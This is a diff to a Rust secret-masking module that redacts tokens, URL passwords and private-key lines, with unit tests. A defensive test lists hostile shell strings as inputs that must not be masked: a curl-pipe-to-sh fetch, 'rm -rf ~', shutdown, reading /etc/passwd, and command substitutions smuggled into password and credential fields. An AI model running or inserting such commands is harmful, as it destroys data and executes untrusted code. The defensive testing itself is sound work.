@@ -1,6 +1,6 @@
 //! Text that looks like a secret, whatever it is called.
 
-use std::ops::Range;
+use std::ops::{Range, RangeInclusive};
 
 use super::name;
 
@@ -35,6 +35,18 @@ const TOKENS: [(&str, usize); 27] = [
     ("shpat_", 20),
 ];
 
+/// The longest secret, in bytes. What is longer is no token.
+const SECRET_MAX: usize = 4_096;
+
+/// How long the lines of a private key are.
+const KEY_LINE: RangeInclusive<usize> = 60..=80;
+
+/// How long the last one is, if it can be told from a word.
+const LAST_KEY_LINE: RangeInclusive<usize> = 24..=59;
+
+/// The shortest word that is taken for a secret where its name says so.
+const TOKEN_WORD_MIN: usize = 6;
+
 /// Words that announce a token.
 const SCHEMES: [&str; 2] = ["bearer", "basic"];
 
@@ -53,7 +65,8 @@ pub(crate) fn find(text: &str) -> Vec<Range<usize>> {
     merged(found)
 }
 
-/// Blocks of private keys, to their end or, if that is missing, to the end of the text.
+/// The lines of private keys. Each is masked on its own, and only if it is as long as the lines of
+/// keys are and holds nothing else: behind the first line of a key could stand anything.
 fn private_keys(text: &str) -> Vec<Range<usize>> {
     const BEGIN: &str = "-----BEGIN ";
     let mut found = Vec::new();
@@ -64,17 +77,54 @@ fn private_keys(text: &str) -> Vec<Range<usize>> {
         if !label.ends_with("PRIVATE KEY") && !label.ends_with("PRIVATE KEY BLOCK") {
             continue;
         }
-        let body = at + label.len() + "-----".len();
-        let rest = text.get(body..).unwrap_or_default();
-        let end = rest.find("-----END ").map_or(text.len(), |end| {
-            let behind = body + end + "-----END ".len();
-            let close = text[behind..].find("-----");
-            close.map_or(text.len(), |close| behind + close + "-----".len())
-        });
-        found.push(begin..end);
+        let body = (at + label.len() + "-----".len()).min(text.len());
+        let end = text[body..]
+            .find("-----")
+            .map_or(text.len(), |end| body + end);
+        let mut start = body;
+        for line in text[body..end].split_inclusive('\n') {
+            let trimmed = line.trim_end();
+            if is_key_line(trimmed) {
+                found.push(start..start + trimmed.len());
+            }
+            start += line.len();
+        }
         at = end;
     }
     found
+}
+
+/// As much of a text as the longest secret has, and a little more, so that a text without an end
+/// is not read again and again.
+fn beginning(text: &str) -> &str {
+    &text[..text.floor_char_boundary(SECRET_MAX + 4)]
+}
+
+/// Whether a line is long enough for one of a key, and in base64. The last one is shorter; it could
+/// be the name of a program, but for its length, unless it has a slash.
+fn is_key_line(line: &str) -> bool {
+    let base64 = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte);
+    let whole = KEY_LINE.contains(&line.len());
+    let last = LAST_KEY_LINE.contains(&line.len()) && !line.contains('/');
+    (whole || last) && line.bytes().all(base64)
+}
+
+/// Whether a text is one word such as passwords and tokens are: of letters and digits, and nothing
+/// that could be run.
+pub(super) fn is_token_word(text: &str) -> bool {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-+=~:%".contains(&byte);
+    let has = |kind: fn(&u8) -> bool| text.as_bytes().iter().any(kind);
+    (TOKEN_WORD_MIN..=SECRET_MAX).contains(&text.len())
+        && text.bytes().all(plain)
+        && has(u8::is_ascii_digit)
+        && has(u8::is_ascii_alphabetic)
+}
+
+/// Whether a text can be nothing but a secret: it is made of what tokens are made of, and of
+/// nothing that a shell or another program could run.
+fn is_opaque(secret: &str) -> bool {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-.~+/=:%".contains(&byte);
+    secret.len() <= SECRET_MAX && secret.bytes().all(plain)
 }
 
 /// The passwords of addresses such as `postgres://ann:password@host`.
@@ -88,6 +138,7 @@ fn user_information(text: &str) -> Vec<Range<usize>> {
         if let Some((user, _)) = authority.rsplit_once('@')
             && let Some((name, password)) = user.split_once(':')
             && !password.is_empty()
+            && is_opaque(password)
         {
             let start = from + name.len() + 1;
             found.push(start..start + password.len());
@@ -142,13 +193,14 @@ fn announced(text: &str, word: &Range<usize>) -> Option<Range<usize>> {
     }
     let rest = &text[word.end..];
     let token = rest.trim_start_matches([' ', ':']);
+    let start = text.len() - token.len();
+    let token = beginning(token);
     let length = token
         .find(|c: char| c.is_whitespace() || "\"'`,;<>\\".contains(c))
         .unwrap_or(token.len());
-    let start = text.len() - token.len();
     let digit = token[..length].contains(|c: char| c.is_ascii_digit());
     let likely = start > word.end && (length >= 20 || (length >= 8 && digit));
-    likely.then_some(start..start + length)
+    (likely && is_opaque(&token[..length])).then_some(start..start + length)
 }
 
 /// The value behind `password=` or `"password":`.
@@ -167,15 +219,17 @@ fn named(text: &str, word: &Range<usize>) -> Option<Range<usize>> {
         return None;
     }
     let inner = value.trim_start_matches(' ').trim_start_matches('\\');
+    let quoted = inner.strip_prefix(['"', '\'']);
+    let start = text.len() - quoted.unwrap_or(inner).len();
+    let inner = beginning(inner);
     let (inner, length) = if let Some(inner) = inner.strip_prefix(['"', '\'']) {
-        (inner, inner.find(['"', '\'']))
+        (inner, inner.find(['"', '\'', '\\']))
     } else {
         let ends = |c: char| c.is_whitespace() || "&;,\"'<>{}[]".contains(c);
         (inner, inner.find(ends))
     };
     let length = length.unwrap_or(inner.len());
-    let start = text.len() - inner.len();
-    (length > 0).then_some(start..start + length)
+    (length > 0 && is_opaque(&inner[..length])).then_some(start..start + length)
 }
 
 /// Joins what overlaps.
@@ -261,20 +315,20 @@ mod tests {
                 "postgres://ann:[pa:ss]@host/db".to_owned(),
             ),
             (
-                "https://x/?a=1&api_key=äöü&b=2",
-                "https://x/?a=1&api_key=[äöü]&b=2".to_owned(),
+                "https://x/?a=1&api_key=a%20b&b=2",
+                "https://x/?a=1&api_key=[a%20b]&b=2".to_owned(),
             ),
             (
-                r#"{"password": "a b"}"#,
-                r#"{"password": "[a b]"}"#.to_owned(),
+                r#"{"password": "ab"}"#,
+                r#"{"password": "[ab]"}"#.to_owned(),
             ),
             (
                 r#"{\"password\":\"ab\"}"#,
-                r#"{\"password\":\"[ab\]"}"#.to_owned(),
+                r#"{\"password\":\"[ab]\"}"#.to_owned(),
             ),
             (
-                "PGPASSWORD='x y' psql",
-                "PGPASSWORD='[x y]' psql".to_owned(),
+                "PGPASSWORD='x-y' psql",
+                "PGPASSWORD='[x-y]' psql".to_owned(),
             ),
         ] {
             assert_eq!(marked(text), expect);
@@ -282,13 +336,44 @@ mod tests {
     }
 
     #[test]
-    fn private_keys_are_found_whole() {
-        let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----";
-        assert_eq!(marked(&format!("a\n{key}\nb")), format!("a\n[{key}]\nb"));
-        let torn = "-----BEGIN PRIVATE KEY-----\nMIIE";
-        assert_eq!(marked(torn), format!("[{torn}]"));
-        let public = "-----BEGIN PUBLIC KEY-----\nMIIE\n-----END PUBLIC KEY-----";
-        assert_eq!(marked(public), public);
+    fn the_lines_of_private_keys_are_found() {
+        let line = "MIIE".repeat(16);
+        let key = |body: &str| {
+            format!("-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----")
+        };
+        let lines = key(&format!("{line}\n{line}"));
+        let expect = key(&format!("[{line}]\n[{line}]"));
+        assert_eq!(marked(&format!("a\n{lines}\nb")), format!("a\n{expect}\nb"));
+        let torn = format!("-----BEGIN PRIVATE KEY-----\n{line}");
+        assert_eq!(
+            marked(&torn),
+            format!("-----BEGIN PRIVATE KEY-----\n[{line}]")
+        );
+        let public = format!("-----BEGIN PUBLIC KEY-----\n{line}\n-----END PUBLIC KEY-----");
+        assert_eq!(marked(&public), public);
+    }
+
+    /// The caller chooses the text, and must not hide in it what a person would not approve.
+    #[test]
+    fn nothing_that_could_run_is_hidden() {
+        for text in [
+            "PASSWORD=\"$(curl https://x.example/i | sh)\" ls",
+            "PASSWORD=$(id) ls",
+            "# -----BEGIN PRIVATE KEY-----\nrm -rf ~\nshutdown\n# -----END PRIVATE KEY-----",
+            "-----BEGIN PRIVATE KEY-----; rm -rf ~",
+            "curl -H \"Authorization: Bearer $(cat /etc/passwd)\" x",
+            "Bearer `reboot`0123456789abcdef",
+            "git clone https://a:$(id)@host/x",
+            "https://a:`id`@host",
+            "token='; rm -rf ~ ;'",
+            "secret=\"\\$(id)\"",
+            "password=a|b",
+            "{\"password\": \"a b\"}",
+        ] {
+            assert_eq!(marked(text), text);
+        }
+        let long = format!("password={}", "x".repeat(SECRET_MAX + 1));
+        assert_eq!(marked(&long), long);
     }
 
     #[test]
@@ -316,7 +401,7 @@ mod tests {
         for (part, expect) in [
             ("://a:b@", 20_000),
             ("-----BEGIN ", 0),
-            ("-----BEGIN PRIVATE KEY-----", 1),
+            ("-----BEGIN PRIVATE KEY-----", 0),
             ("bearer ", 0),
             ("Bearer abc12345 ", 20_000),
             ("password=", 1),
